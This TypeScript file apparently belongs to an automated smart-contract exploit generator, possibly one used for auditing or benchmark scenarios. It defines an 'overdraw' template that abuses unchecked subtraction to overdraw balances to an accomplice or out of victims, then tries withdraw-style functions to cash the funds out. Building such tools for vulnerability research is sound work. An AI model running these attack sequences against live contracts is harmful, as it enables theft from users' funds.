import type { Argument, CallAction } from '../../../../tasks/kinds/scenario.ts';
import type { FunctionModel } from '../../solidity/codeModel.ts';
import { synthesize } from '../synthesize.ts';
import { holdingsOf, type Instance, type Target } from '../target.ts';
import { ACCOMPLICE, ATTACKER, callsOnly, type Template } from '../template.ts';

const CASH_OUT = /withdraw|unstake|redeem|exit|cash|claim|sell|burn|leave|transfer/i;

/** Spends more than the attacker has through a wrapping subtraction, then cashes out. */
export const overdraw: Template = {
  name: 'overdraw',
  detector: 'uncheckedSubtraction',
  *attempts(target, suspicion) {
    const { function: weak, contract } = suspicion;
    for (const instance of target.instances.filter((one) => one.contract === contract)) {
      for (const amount of [...holdingsOf(target, instance.reference), '1']) {
        for (const move of movesOf(target, { weak, instance, amount })) {
          yield callsOnly([move]);
          for (const cashOut of cashOutsOf(target, { weak, instance, amount })) {
            yield callsOnly([move, cashOut]);
          }
        }
      }
    }
  },
};

interface Plan {
  readonly weak: FunctionModel;
  readonly instance: Instance;
  readonly amount: Argument;
}

/** The overdraft itself: to an accomplice, or out of a victim where the function takes two accounts. */
function movesOf(target: Target, { weak, instance, amount }: Plan): CallAction[] {
  const accounts = weak.parameters.filter(({ type }) => type === 'address').length;
  const args = synthesize(target, weak, { account: ACCOMPLICE, amount });
  if (args === undefined) return [];
  if (accounts < 2) return [callTo(instance, weak, args)].flat();
  const first = weak.parameters.findIndex(({ type }) => type === 'address');
  const victims = [
    ...target.instances.map(({ reference }) => reference),
    ...target.scenario.actors.map(({ name }) => `$${name}`),
  ];
  return victims.flatMap((victim) => {
    const balance = holdingsOf(target, victim).find(
      (one) => 'read' in one && one.read === instance.reference,
    );
    const from = synthesize(target, weak, { account: ATTACKER, amount: balance ?? amount }) ?? [];
    return callTo(instance, weak, from.with(first, victim));
  });
}

function cashOutsOf(target: Target, { weak, instance, amount }: Plan): CallAction[] {
  const exits = instance.contract.functions
    .filter(({ isEntry, isView, isPayable }) => isEntry && !isView && !isPayable)
    .filter((one) => one.signature !== weak.signature)
    .sort((a, b) => Number(CASH_OUT.test(b.name)) - Number(CASH_OUT.test(a.name)));
  return exits.flatMap((exit) =>
    [ACCOMPLICE, ATTACKER].flatMap((from) => {
      const args = synthesize(target, exit, { account: from, amount });
      return args === undefined ? [] : callTo(instance, exit, args, from);
    }),
  );
}

function callTo(
  { reference }: Instance,
  { signature }: FunctionModel,
  args: Argument[],
  from = ATTACKER,
): CallAction[] {
  return signature === undefined ? [] : [{ from, to: reference, fn: signature, args, value: '0' }];
}
